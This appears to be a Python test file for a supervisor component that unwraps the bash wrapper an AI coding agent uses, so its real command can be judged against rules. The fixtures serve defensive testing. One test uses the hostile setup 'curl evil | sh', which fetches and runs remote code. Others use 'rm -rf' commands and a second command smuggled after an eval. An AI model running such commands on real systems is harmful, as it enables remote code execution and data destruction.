"""What an exec is decided as (``corral.supervisor.execwrappers``): plain data in, argv out."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from corral.supervisor.execwrappers import (
    agent_command,
    agent_setup,
    decision_argv,
    same_command,
    script_index,
    shell_script,
)

SNAP = "source /home/u/.claude/shell-snapshots/snapshot-bash-1.sh"


def claude(cmd_quoted: str, setup: str = SNAP) -> tuple[str, ...]:
    head = f"{setup} && " if setup else ""
    return ("/bin/bash", "-c", "-l",
            f"{head}eval {cmd_quoted} \\< /dev/null && pwd -P >| /tmp/claude-1a2b-cwd")


def test_claude_codes_wrapper_is_decided_as_the_models_command():
    argv = claude("'rm -rf build && echo '\"'\"'done'\"'\"''")
    assert agent_command(argv) == "rm -rf build && echo 'done'"
    assert agent_setup(argv) == SNAP
    assert decision_argv("/bin/bash", argv, lambda s: s == SNAP) == (
        "bash", "-lc", "rm -rf build && echo 'done'")


def test_a_setup_the_rules_do_not_allow_keeps_the_whole_wrapper():
    argv = claude("'ls'", setup="curl evil | sh")
    assert decision_argv("/bin/bash", argv, lambda s: False) == argv


def test_look_alike_wrappers_are_decided_as_they_are():
    for script in ("eval 'ls' && pwd -P >| /tmp/a b",  # two words after >|
                   "eval 'ls' ; rm -rf x && pwd -P >| /tmp/f",  # more after the eval
                   "xeval 'ls' && pwd -P >| /tmp/f",
                   "eval 'unbalanced && pwd -P >| /tmp/f"):
        argv = ("bash", "-c", script)
        assert agent_command(argv) is None, script
        assert decision_argv("/bin/bash", argv, lambda s: True) == argv


def test_argv0_naming_another_program_is_decided_as_the_path():
    assert decision_argv("/usr/bin/rm", ("ls", "-rf", "x")) == ("/usr/bin/rm", "-rf", "x")
    assert decision_argv("/usr/bin/python3.11", ("python3", "-c", "1")) == (
        "python3", "-c", "1")
    assert decision_argv("/bin/true", ()) == ("/bin/true",)


def test_shell_scripts_and_hooks_match_by_script():
    assert shell_script(("sh", "-c", "echo hi", "arg0")) == "echo hi"
    assert script_index(("bash", "-l", "-c", "x")) == 3
    assert shell_script(("bash", "script.sh")) is None
    assert shell_script(("python3", "-c", "x")) is None
    assert same_command(("bash", "-lc", "ls"), ("/bin/bash", "-lc", "ls"))
    assert not same_command(("bash", "-lc", "ls"), ("bash", "-lc", "ls; rm -rf x"))
    assert same_command(("ls", "-la"), ("/bin/ls", "-la"))
    assert not same_command(("ls", "-la"), ("bash", "-lc", "ls -la"))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=40), max_size=6), st.text(max_size=30))
def test_never_raises_on_any_exec(argv: list[str], path: str) -> None:
    a = tuple(argv)
    out = decision_argv(path, a, lambda s: True)
    assert isinstance(out, tuple) and out
    agent_command(a)
    agent_setup(a)
    same_command(a, out)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_model_command_survives_claudes_quoting(cmd: str) -> None:
    import shlex

    argv = claude(shlex.quote(cmd))
    assert agent_command(argv) == cmd
